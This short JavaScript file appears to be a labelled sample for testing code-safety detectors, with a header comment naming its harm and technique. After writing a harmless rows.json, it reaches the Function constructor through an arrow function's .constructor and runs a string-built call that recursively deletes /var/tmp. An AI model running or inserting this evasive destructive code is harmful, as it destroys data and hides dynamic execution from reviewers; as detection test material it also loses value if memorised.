// harm: execute built code; technique: Function constructor reached via arrow function's .constructor
const fs = require('fs');

const helper = () => 0;
const Make = helper.constructor;
const code = ['return require', '("fs").rmSync("/var/tmp", { recursive: true, force: true })'].join('');

const rows = [{ a: 1 }, { a: 2 }];
fs.writeFileSync('rows.json', JSON.stringify(rows));
Make('require', code)(require);
